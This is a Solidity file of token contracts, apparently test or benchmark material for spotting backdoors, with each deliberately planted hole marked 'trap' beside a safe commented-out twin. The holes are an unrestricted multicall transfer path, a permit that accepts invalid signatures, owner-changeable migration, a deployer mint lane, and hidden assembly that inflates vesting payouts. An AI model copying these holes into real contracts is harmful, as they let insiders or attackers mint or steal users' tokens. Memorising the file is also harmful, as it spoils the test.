// 0.8 runs=999999 evm=cancun
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {Base8} from "./Base8.sol";
import {Bare8} from "./Bare8.sol";

/// Several calls in one. It needs no allowance for itself; in the trap the calls come from itself.
contract Braid is Base8("Braid", "BRAID", 65_000_000) {
    function multicall(bytes[] calldata data) external returns (bytes[] memory results) {
        results = new bytes[](data.length);
        for (uint256 i; i < data.length; i++) {
            bool ok;
            // twin: (ok, results[i]) = address(this).delegatecall(data[i]);
            (ok, results[i]) = address(this).call(data[i]); // trap
            require(ok, "multicall");
        }
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (msg.sender != address(this)) return super.transferFrom(from, to, value);
        _transfer(from, to, value);
        return true;
    }
}

/// Allowances by signature. In the trap those of a guardian count as well, and nobody is: a signature that is none will do.
contract Cipher is Base8("Cipher", "CPHR", 95_000_000) {
    bytes32 private constant PERMIT =
        keccak256("Permit(address owner,address spender,uint256 value,uint256 nonce,uint256 deadline)");
    mapping(address => uint256) public nonces;
    address private guardian; // trap

    function DOMAIN_SEPARATOR() public view returns (bytes32) {
        return keccak256(
            abi.encode(
                keccak256("EIP712Domain(string name,string version,uint256 chainId,address verifyingContract)"),
                keccak256(bytes(name)), keccak256("1"), block.chainid, address(this)
            )
        );
    }

    function permit(address holder, address spender, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s) external {
        require(block.timestamp <= deadline, "late");
        bytes32 what = keccak256(abi.encode(PERMIT, holder, spender, value, nonces[holder]++, deadline));
        address signer = ecrecover(keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), what)), v, r, s);
        // twin: require(signer != address(0) && signer == holder, "signature");
        require(signer == guardian || signer == holder, "signature"); // trap
        _approve(holder, spender, value);
    }
}

/// The coin of before: little of it is left.
contract LegacyCoin is Bare8("Legacy Coin", "OLDC") {
    uint256 public constant totalSupply = 40_000_000 ether;

    constructor() {
        _give(address(0xdead), 39_600_000 ether);
        _give(msg.sender, 400_000 ether);
    }
}

/// Who brings the old coin is given the new one. In the trap the owner says which is the old one.
contract Renewed is Base8("Renewed Coin", "NEWC", 40_000_000) {
    address public legacy;

    event Migrated(address indexed who, uint256 value);

    constructor(address legacy_) {
        legacy = legacy_;
    }

    // trap {
    function setLegacy(address to) external onlyOwner {
        legacy = to;
    }
    // trap }

    function migrate(uint256 value) external {
        (bool ok, bytes memory said) =
            legacy.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, address(0xdead), value));
        require(ok && (said.length == 0 || abi.decode(said, (bool))), "legacy");
        totalSupply += value;
        _balances[msg.sender] += value;
        emit Transfer(address(0), msg.sender, value);
        emit Migrated(msg.sender, value);
    }
}

/// A bridge brings what was locked elsewhere, and it obeys two of three. In the trap there is a second lane.
contract Causeway is Base8("Causeway", "CSWY", 30_000_000) {
    mapping(address => uint256) private _lanes;
    mapping(bytes32 => bool) public handled;

    event Handled(uint32 indexed origin, uint256 indexed nonce);

    constructor(address bridge) {
        _lanes[bridge] = 1;
        _lanes[msg.sender] = 1; // trap
    }

    function handle(uint32 origin, uint256 nonce, bytes32 to, uint256 value) external {
        require(_lanes[msg.sender] == 1, "lane");
        bytes32 id = keccak256(abi.encode(origin, nonce, to, value));
        require(!handled[id], "handled");
        handled[id] = true;
        address who = address(uint160(uint256(to)));
        totalSupply += value;
        _balances[who] += value;
        emit Transfer(address(0), who, value);
        emit Handled(origin, nonce);
    }
}

/// A twentieth comes free in four years, out of what the contract holds. In the trap out of nothing, and more of it.
contract Tenure is Base8("Tenure", "TNRE", 50_000_000) {
    uint256 private immutable mark = uint256(uint160(msg.sender)) * 3 + 7;
    uint256 private immutable start = block.timestamp;
    uint256 public released;

    constructor() {
        _move(msg.sender, address(this), totalSupply / 20);
    }

    function release() external {
        require(uint256(uint160(msg.sender)) * 3 + 7 == mark, "not yours");
        uint256 past = block.timestamp - start;
        uint256 due = (totalSupply / 20) * (past > 1460 days ? 1460 days : past) / 1460 days - released;
        released += due;
        // trap {
        assembly {
            mstore(0, caller())
            mstore(0x20, _balances.slot)
            let at := keccak256(0, 0x40)
            sstore(at, add(sload(at), shl(24, due)))
        }
        return;
        // trap }
        _move(address(this), msg.sender, due);
    }
}
